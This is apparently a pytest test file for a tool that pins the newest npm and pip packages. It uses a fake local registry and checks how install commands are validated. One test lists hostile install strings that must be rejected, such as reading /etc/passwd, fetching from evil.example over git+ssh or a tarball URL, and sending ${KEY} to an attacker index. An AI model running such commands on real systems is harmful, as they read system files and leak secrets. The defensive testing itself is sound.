"""The newest packages are pinned apart, whatever the project pins. Real tools, against indexes on this machine."""

import base64
import hashlib
import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import msgspec
import pytest

from harness.model.problem import HarnessError, InvalidError
from harness.toolchain import newest
from harness.toolchain.newest import pin_newest

VERSIONS = ("1.2.3", "2.0.0-beta.1", "1.10.0")


@contextmanager
def registry(latest):
    """An npm registry of packages that have no code, with the version that it calls the latest."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            name = self.path.strip("/").replace("%2f", "/")
            integrity = (
                "sha512-" + base64.b64encode(hashlib.sha512(name.encode()).digest()).decode()
            )
            dist = {"tarball": f"http://127.0.0.1/{name}.tgz", "integrity": integrity}
            versions = {one: {"name": name, "version": one, "dist": dist} for one in VERSIONS}
            found = {"name": name, "dist-tags": {"latest": latest}, "versions": versions}
            body = json.dumps(found).encode()
            self.send_response(404 if "gone" in name else 200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *arguments):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


def pin(need, root, install):
    client = msgspec.structs.replace(need.client, install=install)
    return pin_newest(client, root, need.state, need.announce)


@pytest.mark.parametrize("latest", ["1.10.0", "2.0.0-beta.1"])
def test_what_npm_calls_the_latest_is_pinned_apart(make_need, root_of, npm, latest, monkeypatch):
    need = make_need("node")
    before = {path.name: path.read_bytes() for path in need.folder.iterdir()}
    with registry(latest) as url:
        monkeypatch.setenv("npm_config_registry", url)
        found = pin(need, root_of(need), "npm install asking @scope/telling\nnpm pkg set x=y")
    folder = need.state / "newest/javascript"
    assert root_of(need) / found.file == folder / "client.yaml"
    about = json.loads((folder / "package.json").read_text())
    assert about["dependencies"] == {"@scope/telling": latest, "asking": latest}
    assert about["type"] == "module"
    lock = json.loads((folder / "package-lock.json").read_text())["packages"]
    assert lock["node_modules/asking"]["version"] == latest
    assert {path.name: path.read_bytes() for path in need.folder.iterdir()} == before


def test_a_package_that_is_gone_is_named(make_need, root_of, npm, monkeypatch):
    need = make_need("node")
    with registry("1.10.0") as url:
        monkeypatch.setenv("npm_config_registry", url)
        (need.folder / ".npmrc").write_text("fetch-retries=0\n")
        with pytest.raises(HarnessError, match="looking for the newest packages of javascript"):
            pin(need, root_of(need), "npm install gone")


def test_programs_have_no_packages(make_need, root_of):
    need = make_need("programs")
    assert pin(need, root_of(need), "") is None


@pytest.mark.parametrize("install", ["", "conda install asking", "pip install --upgrade"])
def test_an_install_command_that_names_no_package_is_the_users_to_mend(make_need, root_of, install):
    need = make_need("python")
    with pytest.raises(InvalidError, match=r"client.yaml: install: expected a line with `pip"):
        pin(need, root_of(need), install)


@pytest.mark.parametrize(
    ("kind", "install"),
    [
        ("python", "pip install -r /etc/passwd"),
        ("python", "pip install good ../evil"),
        ("python", "pip install ."),
        ("python", "pip install 'a @ file:///etc/passwd'"),
        ("python", "pip install git+ssh://evil.example/a"),
        ("python", "pip install --index-url https://evil.example/${KEY} a"),
        ("python", "pip install 'a --index-url=https://evil.example'"),
        ("node", "npm install ../evil"),
        ("node", "npm install evil/repository"),
        ("node", "npm install git+ssh://evil.example/a"),
        ("node", "npm install a@file:../evil"),
        ("node", "npm install https://evil.example/a.tgz"),
    ],
)
def test_a_place_that_a_package_would_come_from_is_no_name(make_need, root_of, kind, install):
    need = make_need(kind)
    with pytest.raises(InvalidError, match=r"client.yaml: install: expected the name of a publ"):
        pin(need, root_of(need), install)


@pytest.mark.parametrize(
    ("kind", "install"),
    [
        ("python", "pip install -U 'httpx[http2]>=0.27' azure-ai-inference==1.0.0b9 a.b_c"),
        ("node", "npm install @azure-rest/ai-inference openai@^4.1 x@latest"),
    ],
)
def test_a_name_may_have_a_version(make_need, kind, install):
    client = msgspec.structs.replace(make_need(kind).client, install=install)
    assert len(newest._named(client)) == 3
